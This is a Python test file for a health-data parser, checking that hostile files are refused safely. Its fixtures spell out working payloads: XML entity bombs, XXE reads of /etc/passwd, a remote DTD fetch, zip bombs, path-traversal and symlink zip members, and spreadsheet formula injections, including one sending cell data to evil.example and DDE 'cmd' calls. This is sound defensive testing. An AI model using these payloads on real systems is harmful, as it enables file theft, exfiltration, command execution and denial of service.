"""Hostile input: each is refused or handled with a clear reason, within time and memory,
and nothing is written anywhere (docs/reliability.md, "Bad input and fuzzing").

Memory is checked two ways: tracemalloc (Python heap, via the fuzz guard) and the process's
peak resident set (Linux VmHWM, reset through /proc/self/clear_refs), which also sees native
allocations (zlib, polars, expat).
"""

from __future__ import annotations

import io
import re
import struct
import sys
import uuid
import zipfile
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "fuzz"))
import fuzzkit as fk  # noqa: E402

from parsers import archive  # noqa: E402
from parsers.archive import Limits, iter_members  # noqa: E402
from parsers.base import ParseError  # noqa: E402
from parsers.csv_long import MAX_COLUMNS  # noqa: E402
from parsers.inputs import MAX_FILE_BYTES, parse_input  # noqa: E402
from parsers.registry import parse_file  # noqa: E402

#: part of the real-input / hostile set: `pytest -m hostile` (docs/reliability.md)
pytestmark = pytest.mark.hostile

MiB = 1 << 20
#: Peak RSS growth allowed for refusing a hostile input (it is never expanded).
RSS_SLACK = 96 * MiB


# ---------------------------------------------------------------- helpers


def _status(key: str) -> int:
    text = Path("/proc/self/status").read_text()
    return int(re.search(rf"{key}:\s+(\d+) kB", text).group(1)) * 1024


def rss_peak_growth(fn):
    """(result or exception, peak RSS growth in bytes) of `fn()`; skips where Linux's peak
    reset is unavailable."""
    try:
        Path("/proc/self/clear_refs").write_text("5")
    except OSError:
        pytest.skip("cannot reset the peak RSS on this system")
    before = _status("VmRSS")
    try:
        out = fn()
    except ParseError as exc:
        out = exc
    return out, _status("VmHWM") - before


@pytest.fixture
def empty_cwd(tmp_path, monkeypatch):
    """Run in an empty directory; the test fails if anything appears in it or beside it."""
    work = tmp_path / "cwd"
    work.mkdir()
    monkeypatch.chdir(work)
    yield work
    assert list(work.iterdir()) == [], "a file was written into the working directory"


def refused(fn, *words: str) -> ParseError:
    """`fn()` raises ParseError whose text contains every word (case-insensitive)."""
    with pytest.raises(ParseError) as info:
        fk.guarded(fn, 0)
    text = str(info.value).lower()
    for word in words:
        assert word.lower() in text, f"{word!r} not in {text!r}"
    return info.value


# ---------------------------------------------------------------- XML

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE gpx [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<gpx version="1.1" creator="&lol9;"><trk><name>&lol9;</name></trk></gpx>
"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE gpx [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<gpx version="1.1" creator="x"><trk><name>&xxe;</name></trk></gpx>
"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE gpx SYSTEM "file:///etc/passwd">
<gpx version="1.1" creator="x"><trk/></gpx>
"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE gpx [<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd"> %remote;]>
<gpx version="1.1" creator="x"/>
"""
QUADRATIC = (b'<?xml version="1.0"?>\n<!DOCTYPE gpx [<!ENTITY a "' + b"x" * 50_000 + b'">]>\n'
             b"<gpx><trk><name>" + b"&a;" * 50_000 + b"</name></trk></gpx>")
#: the DOCTYPE sits past the 4 KB sniffing window: the file is still refused
HIDDEN = (b'<?xml version="1.0"?>\n<!--' + b" " * 8000 + b"-->\n"
          + BILLION_LAUGHS.split(b"\n", 1)[1])

XML_ATTACKS = {
    "billion_laughs": BILLION_LAUGHS,
    "external_entity": EXTERNAL_ENTITY,
    "external_dtd": EXTERNAL_DTD,
    "parameter_entity": PARAMETER_ENTITY,
    "quadratic_blowup": QUADRATIC,
    "doctype_past_sniff_window": HIDDEN,
}


def _apple(attack: bytes) -> bytes:
    return attack.replace(b"gpx", b"HealthData")


@pytest.mark.parametrize("kind", XML_ATTACKS)
@pytest.mark.parametrize("flavour", ["gpx", "apple_health"])
def test_xml_with_entities_or_dtd_is_refused_with_a_reason(kind, flavour, empty_cwd):
    data = XML_ATTACKS[kind] if flavour == "gpx" else _apple(XML_ATTACKS[kind])
    name = "route.gpx" if flavour == "gpx" else "export.xml"
    out, growth = rss_peak_growth(
        lambda: fk.guarded(lambda: parse_file(data, name), len(data)).value)
    if flavour == "apple_health" and kind == "external_dtd":
        # Apple's own export starts with a DOCTYPE, which is skipped unread (never fetched):
        # without entity declarations there is nothing to refuse, and no record: "empty"
        assert isinstance(out, ParseError) and str(out).startswith("empty:"), out
        assert "root:" not in str(out)
        return
    assert isinstance(out, ParseError), f"{kind} was parsed: {out}"
    text = str(out)
    assert re.search(r"DTD|entit|DOCTYPE|unrecognised", text, re.I), text
    assert "root:" not in text and "/bin/" not in text  # nothing of /etc/passwd was read
    assert growth < RSS_SLACK, f"{growth / MiB:.0f} MiB"


def test_external_entity_content_never_reaches_a_frame(empty_cwd):
    """Even parsed leniently elsewhere, the entity is never resolved: refused outright."""
    for data, name in ((EXTERNAL_ENTITY, "x.gpx"), (_apple(EXTERNAL_ENTITY), "export.xml")):
        with pytest.raises(ParseError):
            parse_file(data, name)


# ---------------------------------------------------------------- zip bombs and escapes


def _zip(members: list[tuple[str, bytes] | zipfile.ZipInfo], payloads=None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for item in members:
            if isinstance(item, zipfile.ZipInfo):
                zf.writestr(item, payloads[item.filename])
            else:
                zf.writestr(*item)
    return buf.getvalue()


def _zeros_member(zf: zipfile.ZipFile, name: str, size: int) -> None:
    """A member of `size` zero bytes, streamed (the test never holds it in memory)."""
    info = zipfile.ZipInfo(name, (2024, 3, 1, 0, 0, 0))
    info.compress_type = zipfile.ZIP_DEFLATED
    with zf.open(info, "w", force_zip64=size > 0xFFFFFFFF) as fh:
        chunk = bytes(MiB)
        for _ in range(size // MiB):
            fh.write(chunk)


def bomb(size: int = 256 * MiB, extra: dict[str, bytes] | None = None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        _zeros_member(zf, "export.xml", size)
        for name, data in (extra or {}).items():
            zf.writestr(name, data)
    return buf.getvalue()


def _patch_sizes(data: bytes, declared: int) -> bytes:
    """Rewrite every member's uncompressed size (local headers and central directory)."""
    out = bytearray(data)
    for m in re.finditer(rb"PK\x03\x04", out):
        struct.pack_into("<I", out, m.start() + 22, declared)
    for m in re.finditer(rb"PK\x01\x02", out):
        struct.pack_into("<I", out, m.start() + 24, declared)
    return bytes(out)


GOOD = ("wellness.csv", fk.WELLNESS)


def test_zip_bomb_small_compressed_huge_declared_is_not_inflated(empty_cwd):
    data = bomb(256 * MiB, dict([GOOD]))
    assert len(data) < 2 * MiB  # ~1000:1
    members, growth = rss_peak_growth(lambda: list(iter_members(data, "bomb.zip")))
    reasons = {m.name: m.reason for m in members}
    assert "compression ratio" in reasons["export.xml"] and "not inflated" in reasons["export.xml"]
    assert reasons["wellness.csv"] is None  # the honest member is still read
    assert growth < RSS_SLACK, f"{growth / MiB:.0f} MiB"


def test_zip_declaring_more_than_the_total_cap_is_refused_whole(empty_cwd):
    five = _zip([(f"part{i}.csv", b"day,mood\n2024-03-01,5\n") for i in range(5)])
    data = _patch_sizes(five, 0xFFFFFFF0)  # 5 x 4 GiB declared > 16 GiB cap
    refused(lambda: list(iter_members(data, "huge.zip")), "possible zip bomb", "refused")


def test_zip_member_lying_about_its_size_stops_at_the_declared_size(empty_cwd):
    """Header says 1,000 bytes, the stream inflates to 256 MiB: reading stops, refused."""
    data = _patch_sizes(bomb(256 * MiB), 1000)
    members, growth = rss_peak_growth(lambda: list(iter_members(data, "liar.zip")))
    [member] = members
    assert member.data is None and re.search(r"damaged|inflates past", member.reason)
    assert growth < RSS_SLACK, f"{growth / MiB:.0f} MiB"


def test_zip_member_inflating_past_the_cap_is_stopped_while_reading(empty_cwd):
    """Declared size within the caps but the caps lowered: bytes are counted as they come."""
    data = bomb(64 * MiB)
    limits = Limits(max_member_bytes=8 * MiB, max_ratio=1e9)
    reasons = [m.reason for m in iter_members(_patch_sizes(data, 4 * MiB), "x.zip", limits)]
    assert re.search(r"damaged|inflates past", reasons[0])


def test_nested_bomb_is_refused_and_outer_members_still_load(empty_cwd):
    data = _zip([("DI-Connect-Uploaded-Files/up.zip", bomb(64 * MiB)), GOOD])
    reasons = {m.name: m.reason for m in iter_members(data, "outer.zip")}
    inner = reasons["DI-Connect-Uploaded-Files/up.zip/export.xml"]
    assert "compression ratio" in inner
    assert reasons["wellness.csv"] is None


ESCAPES = ["../{u}.csv", "../../{u}.csv", "a/../../{u}.csv", "/tmp/{u}.csv", "C:\\{u}.csv",
           "..\\{u}.csv"]


@pytest.mark.parametrize("pattern", ESCAPES)
def test_zip_member_names_that_escape_are_refused(pattern, tmp_path, empty_cwd):
    unique = f"herstel-escape-{uuid.uuid4().hex}"
    data = _named_member(pattern.format(u=unique))
    path = tmp_path / "escape.zip"
    path.write_bytes(data)
    results = parse_input(str(path), "a01")
    errors = [r.error for r in results if r.error]
    assert errors and re.search(r"escapes|absolute|NUL", errors[0]), errors
    assert any(r.parsed is not None for r in results)  # the honest member is kept
    for root in (tmp_path, tmp_path.parent, Path("/tmp"), Path("/"), empty_cwd):
        assert not list(root.glob(f"*{unique}*")), f"something was written in {root}"


def _named_member(name: str) -> bytes:
    """A zip whose first member has exactly `name` (zipfile would normalise it)."""
    placeholder = "p" * len(name.encode("utf-8"))
    data = _zip([(placeholder, fk.WELLNESS), GOOD])
    return data.replace(placeholder.encode(), name.encode("utf-8"))


def test_zip_member_name_with_a_nul_byte_is_cut_there(empty_cwd):
    """zipfile ends a name at its first NUL, so `x.csv\0/../../y` is just `x.csv`."""
    data = _named_member("x.csv\x00/../../etc/passwd")
    names = [m.name for m in iter_members(data, "nul.zip") if m.data is not None]
    assert names == ["x.csv", "wellness.csv"]


def test_symlink_member_is_refused(tmp_path, empty_cwd):
    link = zipfile.ZipInfo("passwd.csv")
    link.create_system = 3  # unix
    link.external_attr = 0o120777 << 16  # S_IFLNK
    data = _zip([link, GOOD], {"passwd.csv": b"/etc/passwd"})
    reasons = {m.name: m.reason for m in iter_members(data, "links.zip")}
    assert reasons["passwd.csv"] == "symbolic link member"
    assert reasons["wellness.csv"] is None


# ---------------------------------------------------------------- FIT


def _fit_crc(data: bytes) -> int:
    table = (0x0000, 0xCC01, 0xD801, 0x1400, 0xF001, 0x3C00, 0x2800, 0xE401,
             0xA001, 0x6C00, 0x7800, 0xB401, 0x5000, 0x9C01, 0x8801, 0x4400)
    crc = 0
    for byte in data:
        for nibble in (byte & 0xF, byte >> 4):
            tmp = table[crc & 0xF]
            crc = ((crc >> 4) & 0x0FFF) ^ tmp ^ table[nibble]
    return crc


def fit_claiming(size: int, header_crc: bool) -> bytes:
    data = bytearray(fk.built_fit())
    struct.pack_into("<I", data, 4, size)
    if header_crc:
        struct.pack_into("<H", data, 12, _fit_crc(data[:12]))
    return bytes(data)


@pytest.mark.parametrize("engine", ["fast", "fitparse"])
@pytest.mark.parametrize("header_crc", [True, False])
@pytest.mark.parametrize("size", [0xFFFFFFFF, 0xFFFFFFF0, 4 << 29])
def test_fit_header_claiming_gigabytes(engine, header_crc, size, empty_cwd):
    """Kept as partial (the records that are there) or refused; never allocates the claim."""
    data = fit_claiming(size, header_crc)
    out, growth = rss_peak_growth(
        lambda: fk.guarded(lambda: fk.strict_parse(data, "x.fit", engine=engine), len(data)))
    if isinstance(out, ParseError):
        assert "FIT" in str(out)
    else:
        assert out.value.problems, "a lying header must be reported"
        assert any("declares" in p or "truncated" in p or "CRC" in p
                   for p in out.value.problems), out.value.problems
    assert growth < RSS_SLACK, f"{growth / MiB:.0f} MiB"


# ---------------------------------------------------------------- CSV

TEN_MILLION = 10_000_000


@pytest.mark.parametrize("header", [b"timestamp,metric,value", b"day,mood,fatigue",
                                    b"Cycle start time,Cycle end time,Cycle timezone,"
                                    b"Resting heart rate (bpm),Wake onset"])
def test_csv_with_ten_million_columns_is_refused_quickly(header, empty_cwd):
    """One ~20 MB header line: refused before any CSV reader builds 10 million columns."""
    data = header + b",x" * TEN_MILLION + b"\n2024-03-01T22:00:00Z,heart_rate,60\n"
    out, growth = rss_peak_growth(lambda: fk.guarded(lambda: parse_file(data, "x.csv"),
                                                     len(data)).value)
    assert isinstance(out, ParseError)
    assert f"{MAX_COLUMNS:,}" in str(out) and "columns" in str(out)
    assert growth < 4 * len(data) + RSS_SLACK


def test_csv_row_with_ten_million_cells_is_cut_to_the_header(empty_cwd):
    data = (b"timestamp,metric,value\n2024-03-01T22:00:00Z,heart_rate,60"
            + b",1" * TEN_MILLION + b"\n2024-03-01T22:01:00Z,heart_rate,61\n")
    parsed = fk.guarded(lambda: parse_file(data, "x.csv"), len(data)).value
    assert parsed.frames["heart_rate"]["bpm"].to_list() == [60, 61]


def test_csv_with_one_forty_megabyte_cell(empty_cwd):
    data = b"timestamp,metric,value\n2024-03-01T22:00:00Z,heart_rate," + b"9" * (40 * MiB) + b"\n"
    out = fk.only_parse_errors(data, "x.csv")  # a 40-million-digit HR is not a heart rate
    assert isinstance(out, ParseError) or out.frames["heart_rate"].is_empty()


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1"]


def _cell(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_cells_are_text_never_evaluated(formula, empty_cwd):
    """A formula in a text cell is stored verbatim; in a number cell it is a bad value."""
    data = ("athlete_id,timestamp,metric,value,unit,vendor\n"
            f"{_cell(formula)},2024-03-02,resting_hr,48,bpm,{_cell(formula)}\n"
            f"a01,2024-03-02T01:00:00Z,heart_rate,{_cell(formula)},bpm,\n").encode()
    parsed = parse_file(data, "long.csv")
    summary = parsed.frames["device_summaries"]
    assert summary["athlete_id"].to_list() == [formula]  # kept as text, byte for byte
    assert summary["vendor"].to_list() == [formula]
    assert "heart_rate" not in parsed.frames  # "=1+1" is not 2
    assert parsed.dropped == {"csv_bad_value": 1}


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_in_a_score_or_vendor_number_is_not_a_value(formula, empty_cwd):
    wellness = parse_file(f"day,mood,fatigue\n2024-03-01,{_cell(formula)},3\n".encode(), "w.csv")
    assert wellness.frames["wellness"]["mood"].to_list() == [None]
    assert wellness.dropped == {"wellness_bad_score": 1}


# ---------------------------------------------------------------- huge files


@pytest.fixture
def sparse_file(tmp_path):
    """A 5 GiB file that takes no disk space (sparse); the test never reads it whole."""
    def make(head: bytes, size: int = 5 << 30) -> Path:
        path = tmp_path / f"huge-{uuid.uuid4().hex[:6]}.fit"
        with path.open("wb") as fh:
            fh.write(head)
            fh.truncate(size)
        return path
    return make


@pytest.mark.parametrize("head", [b"", fk.built_fit()[:14], b"day,mood\n"])
def test_multi_gigabyte_file_is_refused_unread(head, sparse_file, empty_cwd):
    path = sparse_file(head)
    assert path.stat().st_size > MAX_FILE_BYTES
    results, growth = rss_peak_growth(lambda: parse_input(str(path), "a01"))
    [result] = results
    assert result.parsed is None and "cap for one file" in result.error
    assert result.size_bytes == path.stat().st_size
    out, growth2 = rss_peak_growth(lambda: parse_file(path))
    assert isinstance(out, ParseError) and "cap for one file" in str(out)
    assert max(growth, growth2) < RSS_SLACK, f"{max(growth, growth2) / MiB:.0f} MiB"


def test_multi_gigabyte_zip_is_opened_in_place(sparse_file, empty_cwd):
    """A zip is never read whole: a 5 GiB one without a directory is refused from its end."""
    path = sparse_file(b"PK\x03\x04")
    results, growth = rss_peak_growth(lambda: parse_input(str(path), "a01"))
    [result] = results
    assert "not a readable zip" in result.error
    assert growth < RSS_SLACK, f"{growth / MiB:.0f} MiB"


def test_archive_caps_are_the_documented_ones():
    """docs/sources/archives.md and docs/reliability.md quote these numbers."""
    assert archive.MAX_MEMBER_BYTES == 4 << 30 and archive.MAX_TOTAL_BYTES == 16 << 30
    assert archive.MAX_RATIO == 200 and archive.MAX_DEPTH == 1
    assert MAX_FILE_BYTES == archive.MAX_MEMBER_BYTES and MAX_COLUMNS == 1_000
